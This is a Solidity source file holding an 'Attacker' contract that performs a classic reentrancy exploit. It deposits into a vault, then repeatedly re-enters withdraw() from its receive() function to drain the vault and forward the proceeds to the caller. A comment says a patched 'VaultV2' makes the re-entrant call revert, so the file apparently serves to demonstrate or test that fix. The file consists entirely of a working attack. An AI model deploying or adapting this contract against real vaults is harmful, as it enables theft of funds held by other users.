// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IVault {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// The exploit: deposit a little, then re-enter withdraw() from receive()
/// until the vault is empty. Against VaultV2 the re-entrant call reverts.
contract Attacker {
    IVault public immutable vault;
    uint256 private stake;

    constructor(IVault vault_) {
        vault = vault_;
    }

    function attack() external payable {
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (address(vault).balance >= stake) vault.withdraw(stake);
    }
}
